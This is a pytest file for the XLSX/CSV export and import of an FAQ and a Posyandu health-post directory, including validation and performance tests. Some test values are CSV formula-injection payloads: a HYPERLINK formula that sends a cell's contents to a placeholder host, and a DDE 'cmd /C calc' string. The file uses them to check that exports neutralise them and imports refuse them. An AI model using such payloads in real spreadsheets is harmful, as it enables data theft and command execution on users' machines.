"""Spreadsheet export and import of the FAQ content and the Posyandu directory (real Redis)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from actions.content import FaqEntry, load_entries
from actions.posyandu.directory import Directory
from actions.posyandu.importer import import_file
from actions.posyandu.records import PosyanduRecord
from actions.posyandu.regions import Regions
from bot.console.sheets import (
    FAQ_LIMITS,
    SheetError,
    Status,
    Upload,
    apply_faq,
    apply_posyandu,
    directory_records,
    export_faq_csv,
    export_faq_xlsx,
    export_posyandu_csv,
    export_posyandu_xlsx,
    faq_columns,
    posyandu_columns,
    read_faq_upload,
    read_posyandu_upload,
    validate_faq,
    validate_posyandu,
)

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "data" / "posyandu" / "buton_utara.csv"
TODAY = dt.date(2030, 1, 1)  # the reviewed dates of data/faq are all before it


# --- helpers ---------------------------------------------------------------------------------


def edit_xlsx(data: bytes, cells: dict[str, Any]) -> bytes:
    """The workbook with some cells of its first sheet set, as a person would in Excel."""
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    for ref, value in cells.items():
        sheet[ref] = value
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV exports start with a UTF-8 BOM for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def csv_data(rows: list[list[str]], delimiter: str = ",") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


def statuses(report: Any) -> dict[int, Status]:
    return {result.row: result.status for result in report.rows}


def errors_of(report: Any, row: int) -> list[str]:
    [result] = [r for r in report.rows if r.row == row]
    return list(result.errors)


@pytest.fixture(scope="module")
def faq() -> dict[str, FaqEntry]:
    return load_entries(ROOT / "data" / "faq", today=TODAY)


@pytest.fixture(scope="module")
def regions() -> Regions:
    return Regions()


@pytest.fixture
def directory(redis: Any, redis_prefix: str) -> Directory:
    return Directory(redis, redis_prefix)


@pytest.fixture
async def demo(directory: Directory, regions: Regions) -> list[PosyanduRecord]:
    """The demo directory, imported by the command-line importer."""
    counts, errors = await import_file(directory, DEMO, regions, progress=False)
    assert errors == [] and counts.added > 200
    return list(await directory_records(directory))


def faq_row(entry: FaqEntry, **changes: str) -> list[str]:
    """An FAQ sheet row (three source groups) for a CSV upload."""
    values = dict.fromkeys(faq_columns(), "")
    values |= {
        "id": entry.id,
        "judul": entry.title,
        "jawaban": entry.answer,
        "ditinjau": entry.reviewed.isoformat(),
        "terkait": ", ".join(entry.related),
        "catatan": entry.notes or "",
    }
    for n, source in enumerate(entry.sources, start=1):
        values |= {
            f"sumber_{n}_judul": source.title,
            f"sumber_{n}_penerbit": source.issuer,
            f"sumber_{n}_tahun": str(source.year),
            f"sumber_{n}_url": source.url or "",
        }
    values |= changes
    return list(values.values())


# --- FAQ -------------------------------------------------------------------------------------


def test_faq_xlsx_round_trip_then_one_edit(faq: dict[str, FaqEntry]) -> None:
    data = export_faq_xlsx(faq.values())
    upload = read_faq_upload("faq.xlsx", data)
    assert upload.format == "xlsx"
    report = validate_faq(upload, faq, today=TODAY)
    assert report.totals[Status.UNCHANGED] == len(faq) > 20
    assert report.writable == 0 and report.errors == []

    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [c.value for c in sheet[1]] == faq_columns()
    assert isinstance(sheet["P2"].value, dt.datetime), "ditinjau is a real date cell"
    third_id = sheet["A4"].value
    edited = edit_xlsx(data, {"C4": faq[third_id].answer + " Tanyakan juga ke kader Posyandu."})
    report = validate_faq(read_faq_upload("faq.xlsx", edited), faq, today=TODAY)
    assert {row for row, s in statuses(report).items() if s is not Status.UNCHANGED} == {4}
    assert statuses(report)[4] is Status.CHANGED
    assert report.entries[4].answer.endswith("kader Posyandu.")


def test_faq_csv_round_trip_then_one_edit(faq: dict[str, FaqEntry]) -> None:
    data = export_faq_csv(faq.values())
    report = validate_faq(read_faq_upload("faq.csv", data), faq, today=TODAY)
    assert report.totals[Status.UNCHANGED] == len(faq)

    rows = csv_rows(data)
    rows[2][1] = "Judul baru sekali"
    report = validate_faq(read_faq_upload("faq.csv", csv_data(rows)), faq, today=TODAY)
    assert {row for row, s in statuses(report).items() if s is not Status.UNCHANGED} == {3}
    assert report.entries[3].title == "Judul baru sekali"


def test_a_bad_faq_row_is_reported_by_row_and_the_others_stay_valid(
    faq: dict[str, FaqEntry],
) -> None:
    first, second, third = (faq[k] for k in sorted(faq)[:3])
    rows = [
        faq_columns(),
        faq_row(first),
        faq_row(
            second,
            jawaban="Terlalu pendek.",
            sumber_1_penerbit="Google",
            sumber_1_tahun="dua ribu",
            terkait="tidak.ada",
        ),
        faq_row(third, ditinjau="17/08/2026"),
    ]
    report = validate_faq(read_faq_upload("faq.csv", csv_data(rows)), faq, today=TODAY)
    assert statuses(report) == {2: Status.UNCHANGED, 3: Status.ERROR, 4: Status.CHANGED}
    messages = " | ".join(errors_of(report, 3))
    assert "jawaban: terlalu pendek (paling sedikit 40 karakter)" in messages
    assert "sumber_1_penerbit: 'Google' tidak dikenal" in messages
    assert "sumber_1_tahun: 'dua ribu' bukan bilangan bulat" in messages
    assert report.entries[4].reviewed == dt.date(2026, 8, 17)  # day-first dates are read


def test_faq_related_topics_and_dates_are_checked(faq: dict[str, FaqEntry]) -> None:
    entry = faq[sorted(faq)[0]]
    rows = [
        faq_columns(),
        faq_row(entry, id="uji.baru", terkait="uji.lain, tidak.ada"),
        faq_row(entry, id="uji.lain", terkait="uji.baru", ditinjau="2031-01-01"),
    ]
    report = validate_faq(read_faq_upload("faq.csv", csv_data(rows)), faq, today=TODAY)
    assert errors_of(report, 3) == [
        "ditinjau: 2031-01-01 belum lewat; tanggal tinjauan tidak boleh di masa depan"
    ]
    # uji.lain is not valid, so uji.baru may not point at it either.
    assert errors_of(report, 2) == ["terkait: topik tidak ditemukan: uji.lain, tidak.ada"]


def test_an_xlsx_date_cell_is_accepted_for_reviewed(faq: dict[str, FaqEntry]) -> None:
    data = export_faq_xlsx(faq.values())
    edited = edit_xlsx(data, {"P2": dt.datetime(2025, 1, 31, 0, 0), "P3": "kemarin"})
    report = validate_faq(read_faq_upload("faq.xlsx", edited), faq, today=TODAY)
    assert statuses(report)[2] is Status.CHANGED
    assert report.entries[2].reviewed == dt.date(2025, 1, 31)
    assert errors_of(report, 3) == [
        "ditinjau: 'kemarin': tanggal tidak sah; tulis seperti 2026-08-17 (tahun-bulan-tanggal)"
    ]


def test_duplicate_faq_ids_mark_both_rows(faq: dict[str, FaqEntry]) -> None:
    entry = faq[sorted(faq)[0]]
    rows = [faq_columns(), faq_row(entry), faq_row(faq[sorted(faq)[1]]), faq_row(entry)]
    report = validate_faq(read_faq_upload("faq.csv", csv_data(rows)), faq, today=TODAY)
    assert statuses(report) == {2: Status.ERROR, 3: Status.UNCHANGED, 4: Status.ERROR}
    assert errors_of(report, 4) == [f"id: {entry.id} sudah dipakai di baris 2"]
    assert "dipakai lagi di baris 4" in errors_of(report, 2)[0]


def test_formulas_are_neutralised_on_export_and_round_trip(faq: dict[str, FaqEntry]) -> None:
    entry = faq[sorted(faq)[0]]
    hostile = entry.model_copy(
        update={
            "answer": '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik") ' + entry.answer,
            "title": "@SUM(1+1)*cmd",
            "notes": "- catatan berupa daftar\n- baris dua",
        }
    )
    current = {**faq, entry.id: hostile}
    rows = csv_rows(export_faq_csv([hostile]))
    assert rows[1][1] == "'@SUM(1+1)*cmd"
    assert rows[1][2].startswith("'=HYPERLINK(")
    assert rows[1][-1].startswith("'- catatan")

    data = export_faq_xlsx([hostile])
    cells = load_workbook(io.BytesIO(data)).worksheets[0][2]
    assert all(c.data_type != "f" for c in cells), "no cell of an export is a formula"
    assert cells[2].value.startswith("'=HYPERLINK(")

    for name, exported in (("faq.xlsx", data), ("faq.csv", export_faq_csv([hostile]))):
        report = validate_faq(read_faq_upload(name, exported), current, today=TODAY)
        assert statuses(report) == {2: Status.UNCHANGED}, name


def test_formula_cells_are_refused_on_import(faq: dict[str, FaqEntry]) -> None:
    edited = edit_xlsx(export_faq_xlsx(faq.values()), {"C2": "=CONCAT(B2,B3)"})
    report = validate_faq(read_faq_upload("faq.xlsx", edited), faq, today=TODAY)
    assert errors_of(report, 2) == [
        "jawaban: berisi rumus (=CONCAT(B2,B3)); rumus tidak diterima, tulis nilainya saja"
    ]
    assert report.totals[Status.UNCHANGED] == len(faq) - 1

    entry = faq[sorted(faq)[0]]
    rows = [faq_columns(), faq_row(entry, judul="-2+3+cmd|' /C calc'!A0")]
    report = validate_faq(read_faq_upload("faq.csv", csv_data(rows)), faq, today=TODAY)
    assert errors_of(report, 2)[0].startswith("judul: berisi rumus")


def test_huge_cells_are_a_row_error(faq: dict[str, FaqEntry]) -> None:
    entry = faq[sorted(faq)[0]]
    rows = [faq_columns(), faq_row(entry, catatan="x" * 20_000)]
    report = validate_faq(read_faq_upload("faq.csv", csv_data(rows)), faq, today=TODAY)
    assert errors_of(report, 2) == [
        "catatan: isinya terlalu panjang (20.000 karakter; paling banyak 5.000)"
    ]


async def test_apply_faq_hands_only_new_and_changed_entries_to_the_draft_store(
    faq: dict[str, FaqEntry],
) -> None:
    first, second = (faq[k] for k in sorted(faq)[:2])
    rows = [
        faq_columns(),
        faq_row(first),
        faq_row(second, judul="Judul yang diperbarui"),
        faq_row(first, id="uji.topik_baru"),
        faq_row(first, id="uji.rusak", jawaban="pendek"),
    ]
    upload = read_faq_upload("faq.csv", csv_data(rows))
    report = validate_faq(upload, faq, today=TODAY)
    drafts: list[FaqEntry] = []

    async def save_draft(entry: FaqEntry) -> None:
        drafts.append(entry)

    assert await apply_faq(report, save_draft) == 2
    assert [(d.id, d.title) for d in drafts] == [
        (second.id, "Judul yang diperbarui"),
        ("uji.topik_baru", first.title),
    ]


def test_too_many_faq_rows_is_refused(faq: dict[str, FaqEntry]) -> None:
    entry = faq[sorted(faq)[0]]
    rows = [faq_columns()] + [
        faq_row(entry, id=f"uji.t_{'x' * (n % 7)}{chr(97 + n % 26)}") for n in range(501)
    ]
    upload = read_faq_upload("faq.csv", csv_data(rows))
    with pytest.raises(SheetError, match="lebih dari 500 baris"):
        validate_faq(upload, faq, today=TODAY)


# --- file checks -----------------------------------------------------------------------------


def ods_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("faq.xlsx", b"", "File kosong"),
        ("gambar.xlsx", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "bukan XLSX atau CSV"),
        ("lama.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "Format .xls lama"),
        ("faq.ods", ods_bytes(), "format LibreOffice (.ods)"),
        ("rusak.xlsx", b"PK\x03\x04 bukan zip yang utuh", "rusak atau tidak lengkap"),
        ("faq.csv", b"x" * (FAQ_LIMITS.bytes + 1), "File terlalu besar"),
        ("faq.csv", "\ufeff\n\n".encode(), "tidak berisi baris judul kolom"),
    ],
)
def test_files_that_are_not_sheets_get_a_clear_message(
    name: str, data: bytes, message: str
) -> None:
    with pytest.raises(SheetError, match=re.escape(message)):
        read_faq_upload(name, data)


def test_type_is_detected_by_content_not_by_extension(faq: dict[str, FaqEntry]) -> None:
    assert read_faq_upload("salah-nama.csv", export_faq_xlsx(faq.values())).format == "xlsx"
    assert read_faq_upload("salah-nama.xlsx", export_faq_csv(faq.values())).format == "csv"


def test_missing_unknown_and_repeated_headers_are_named() -> None:
    header = [c for c in faq_columns() if c not in ("jawaban", "sumber_1_tahun")]
    with pytest.raises(SheetError) as caught:
        read_faq_upload("faq.csv", csv_data([[*header, "Answer", "judul"]]))
    message = str(caught.value)
    assert "kolom tidak ada: jawaban, sumber_1_tahun" in message
    assert "kolom tidak dikenal: answer" in message
    assert "kolom ganda: judul" in message


def test_a_posyandu_sheet_is_not_an_faq_sheet(regions: Regions, demo: Any) -> None:
    with pytest.raises(SheetError, match="kolom tidak ada: judul, jawaban"):
        read_faq_upload("faq.xlsx", export_posyandu_xlsx(demo, regions))


# --- Posyandu --------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
async def test_posyandu_round_trip_then_one_edit(
    kind: str, directory: Directory, regions: Regions, demo: list[PosyanduRecord]
) -> None:
    export = export_posyandu_xlsx if kind == "xlsx" else export_posyandu_csv
    data = export(demo, regions)
    upload = read_posyandu_upload(f"posyandu.{kind}", data)
    report = await validate_posyandu(upload, directory, regions)
    assert report.totals[Status.UNCHANGED] == len(demo) and report.writable == 0

    jadwal, wilayah = (posyandu_columns().index(c) for c in ("jadwal", "wilayah"))
    new_rule, note = "Rabu ketiga, 09.00-12.00", "wilayah is for reading only"
    if kind == "xlsx":
        edited = edit_xlsx(data, {f"{chr(65 + jadwal)}10": new_rule, f"{chr(65 + wilayah)}5": note})
    else:
        rows = csv_rows(data)
        rows[9][jadwal], rows[4][wilayah] = new_rule, note
        edited = csv_data(rows)
    report = await validate_posyandu(read_posyandu_upload("p", edited), directory, regions)
    assert {row for row, s in statuses(report).items() if s is not Status.UNCHANGED} == {10}
    assert statuses(report)[10] is Status.CHANGED


async def test_the_command_line_csv_is_accepted_as_it_is(
    directory: Directory, regions: Regions
) -> None:
    upload = read_posyandu_upload("buton_utara.csv", DEMO.read_bytes())
    report = await validate_posyandu(upload, directory, regions)
    assert report.totals[Status.NEW] == len(DEMO.read_text().splitlines()) - 1


POSYANDU_HEADER = [
    "id",
    "nama",
    "kode_desa",
    "alamat",
    "lintang",
    "bujur",
    "kontak_kader",
    "jadwal",
]


def posyandu_row(posyandu_id: str, **changes: str) -> list[str]:
    """A Posyandu sheet row in Desa 74.10.05.2003, with some cells changed."""
    values = dict(
        zip(POSYANDU_HEADER, [posyandu_id, "Posyandu Mawar", "74.10.05.2003"], strict=False)
    )
    values |= {"alamat": "Balai", "lintang": "-4.55", "bujur": "123.08", "kontak_kader": ""}
    values |= {"jadwal": "setiap tanggal 10, 08.00-11.00"} | changes
    return [values[column] for column in POSYANDU_HEADER]


async def test_bad_posyandu_rows_are_reported_by_row_and_good_rows_stay_valid(
    directory: Directory, regions: Regions
) -> None:
    rows = [
        POSYANDU_HEADER,
        posyandu_row("PY1", kontak_kader="+62 812-3456-7890"),
        posyandu_row("PY2", lintang="45"),
        posyandu_row("PY3", jadwal="kapan saja"),
        posyandu_row("PY4", kode_desa="99.99.99.9999"),
        posyandu_row("PY5", jadwal="tgl 3 08.00-11.00 WIB"),
        posyandu_row("PY 6", alamat="=1+1", jadwal="tgl 3 08.00"),
        posyandu_row("PY7", jadwal="setiap Senin, 08.00-11.00"),
        posyandu_row("PY8", lintang=""),
    ]
    upload = read_posyandu_upload("posyandu.csv", csv_data(rows))
    report = await validate_posyandu(upload, directory, regions)
    assert statuses(report) == {
        2: Status.NEW,
        3: Status.ERROR,
        4: Status.ERROR,
        5: Status.ERROR,
        6: Status.ERROR,
        7: Status.ERROR,
        8: Status.ERROR,
        9: Status.ERROR,
    }
    assert errors_of(report, 3) == ["lintang: 45 terlalu besar (paling besar 6.5)"]
    assert errors_of(report, 4) == [
        "jadwal: jam buka tidak ditemukan dalam 'kapan saja' (contoh: 08.00-11.00)"
    ]
    assert errors_of(report, 5) == ["kode_desa: kode desa 99.99.99.9999 tidak dikenal"]
    assert errors_of(report, 6) == [
        "jadwal: zona waktu WIB tidak cocok dengan desa 74.10.05.2003 (WITA)"
    ]
    assert errors_of(report, 7) == [  # every problem of the row at once
        "alamat: berisi rumus (=1+1); rumus tidak diterima, tulis nilainya saja",
        "id: 'PY 6' tidak sah; hanya huruf, angka, titik, garis bawah dan tanda hubung, "
        "tanpa spasi, paling banyak 64 karakter",
        "jadwal: jam buka tidak ditemukan dalam 'tgl 3 08.00' (contoh: 08.00-11.00)",
    ]
    # A weekday without its place in the month is refused by the schedule parser.
    assert errors_of(report, 8)[0].startswith("jadwal: Senin ke berapa dalam sebulan?")
    assert errors_of(report, 9) == ["lintang: wajib diisi"]


async def test_semicolons_and_decimal_commas_from_indonesian_excel(
    directory: Directory, regions: Regions
) -> None:
    rows = [
        ["id", "nama", "kode_desa", "alamat", "lintang", "bujur", "kontak_kader", "jadwal"],
        [
            "PY1",
            "Posyandu Mawar",
            "74.10.05.2003",
            "Balai",
            "-4,55",
            "123,08",
            "",
            "tgl 10 08.00-11.00",
        ],
    ]
    data = csv_data(rows, delimiter=";").decode().encode("cp1252")
    report = await validate_posyandu(read_posyandu_upload("p.csv", data), directory, regions)
    assert statuses(report) == {2: Status.NEW}


async def test_duplicate_posyandu_ids(directory: Directory, regions: Regions) -> None:
    header = ["id", "name", "village_code", "address", "lat", "lon", "cadre_contact", "schedule"]
    row = [
        "PY1",
        "Posyandu Mawar",
        "74.10.05.2003",
        "",
        "-4.55",
        "123.08",
        "",
        "tgl 10 08.00-11.00",
    ]
    rows = [header, row, [row[0], "Posyandu Lain", *row[2:]], ["PY2", *row[1:]]]
    report = await validate_posyandu(
        read_posyandu_upload("p.csv", csv_data(rows)), directory, regions
    )
    assert statuses(report) == {2: Status.ERROR, 3: Status.ERROR, 4: Status.NEW}
    assert errors_of(report, 3) == ["id: PY1 sudah dipakai di baris 2"]


async def test_hostile_text_in_the_directory_is_neutralised_on_export(
    directory: Directory, regions: Regions
) -> None:
    record = PosyanduRecord(
        id="PY1",
        name="@SUM(1+1)*cmd|' /C calc'!A0",
        village_code="74.10.05.2003",
        lat=-4.55,
        lon=123.08,
        cadre_contact='=HYPERLINK("http://contoh.invalid","Kader")',
        schedule="setiap tanggal 10, 08.00-11.00",
    )
    plain = record.model_copy(
        update={"id": "PY2", "name": "Posyandu Biasa", "address": "- dekat masjid"}
    )
    odd = plain.model_copy(update={"id": "PY3", "cadre_contact": "#N/A"})
    await directory.upsert([record, plain, odd])
    rows = csv_rows(export_posyandu_csv([record, plain, odd], regions))
    contact, address = (posyandu_columns().index(c) for c in ("kontak_kader", "alamat"))
    assert rows[1][1].startswith("'@SUM") and rows[1][contact].startswith("'=HYPERLINK")
    assert (rows[2][address], rows[3][contact]) == ("'- dekat masjid", "'#N/A")
    data = export_posyandu_xlsx([record, plain, odd], regions)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    kinds = {c.data_type for row in sheet.iter_rows(min_row=2) for c in row}
    assert not kinds & {"f", "e"}, "no formula and no error cell in an export"
    for exported in (data, export_posyandu_csv([record, plain, odd], regions)):
        report = await validate_posyandu(read_posyandu_upload("p", exported), directory, regions)
        assert set(statuses(report).values()) == {Status.UNCHANGED}


async def test_rows_outside_the_accounts_area_are_refused(
    directory: Directory, regions: Regions, demo: list[PosyanduRecord]
) -> None:
    data = export_posyandu_csv(demo, regions)
    rows = csv_rows(data)
    village = posyandu_columns().index("kode_desa")
    kulisusu = [n for n, row in enumerate(rows) if row[village].startswith("74.10.01.")]
    rows[kulisusu[0]][village] = "74.10.02.2001"  # moving one out of Kulisusu

    def in_kulisusu(record: PosyanduRecord) -> bool:
        return record.village_code.startswith("74.10.01.")

    upload = read_posyandu_upload("p.csv", csv_data(rows))
    report = await validate_posyandu(upload, directory, regions, in_scope=in_kulisusu)
    moved = kulisusu[0] + 1
    assert errors_of(report, moved) == ["kode_desa: desa 74.10.02.2001 di luar wilayah akun Anda"]
    others = [r for r in report.rows if r.row not in (n + 1 for n in kulisusu)]
    assert others and all(r.status is Status.ERROR for r in others)
    assert all(r.status is Status.UNCHANGED for r in report.rows if r.row - 1 in kulisusu[1:])


async def test_apply_posyandu_writes_what_the_lookup_finds_with_progress(
    directory: Directory, regions: Regions
) -> None:
    rows = [
        ["id", "nama", "kode_desa", "alamat", "lintang", "bujur", "kontak_kader", "jadwal"],
        [
            "PY1",
            "Posyandu Mawar",
            "74.10.05.2003",
            "Balai",
            "-4.55",
            "123.08",
            "",
            "tgl 10 08.00-11.00",
        ],
        [
            "PY2",
            "Posyandu Rusak",
            "74.10.05.2003",
            "Balai",
            "45",
            "123.08",
            "",
            "tgl 10 08.00-11.00",
        ],
    ]
    upload = read_posyandu_upload("p.csv", csv_data(rows))
    report = await validate_posyandu(upload, directory, regions)
    assert await directory.get("PY1") is None, "validating writes nothing"
    seen: list[tuple[int, int]] = []

    async def progress(done: int, total: int) -> None:
        seen.append((done, total))

    counts = await apply_posyandu(upload, report, directory, regions, progress=progress)
    assert (counts.added, counts.updated) == (1, 0)
    assert seen[-1] == (1, 1)
    assert [r.id for r in await directory.in_village("74.10.05.2003")] == ["PY1"]
    [near] = await directory.nearest(-4.551, 123.081)
    assert near.record.name == "Posyandu Mawar"
    assert await directory.get("PY2") is None

    other = read_posyandu_upload("p.csv", csv_data(rows[:2]))
    with pytest.raises(SheetError, match="bukan untuk file ini"):
        await apply_posyandu(other, report, directory, regions)


async def test_ten_thousand_rows_stream_in_linear_time(
    directory: Directory, regions: Regions
) -> None:
    villages = [v for v in regions.villages_of("74.10") if v.lat is not None]
    records = [
        PosyanduRecord(
            id=f"UJI{n:05d}",
            name=f"Posyandu Uji {n}",
            village_code=villages[n % len(villages)].code,
            address="Balai Desa",
            lat=villages[n % len(villages)].lat or 0.0,
            lon=villages[n % len(villages)].lon or 0.0,
            schedule="Selasa kedua setiap bulan, 08.00-11.00"
            if n % 2
            else "setiap tanggal 10, 08.00-11.00",
        )
        for n in range(10_000)
    ]
    timings = {}
    uploads: dict[int, Upload] = {}
    for size in (1_000, 10_000):
        uploads[size] = read_posyandu_upload(
            "p.xlsx", export_posyandu_xlsx(records[:size], regions)
        )
        started = time.perf_counter()
        report = await validate_posyandu(uploads[size], directory, regions)
        timings[size] = time.perf_counter() - started
        assert report.totals[Status.NEW] == size
    print(
        f"\nvalidate XLSX: 1,000 rows {timings[1_000]:.2f} s, 10,000 rows "
        f"{timings[10_000]:.2f} s (x{timings[10_000] / timings[1_000]:.1f})"
    )
    seen: list[int] = []
    counts = await apply_posyandu(
        uploads[10_000], report, directory, regions, progress=lambda done, total: seen.append(done)
    )
    assert counts.added == 10_000
    assert seen == sorted(seen) and seen[-1] == 10_000 and len(seen) > 5
    stored = await directory.get("UJI09999")
    assert stored == records[-1]
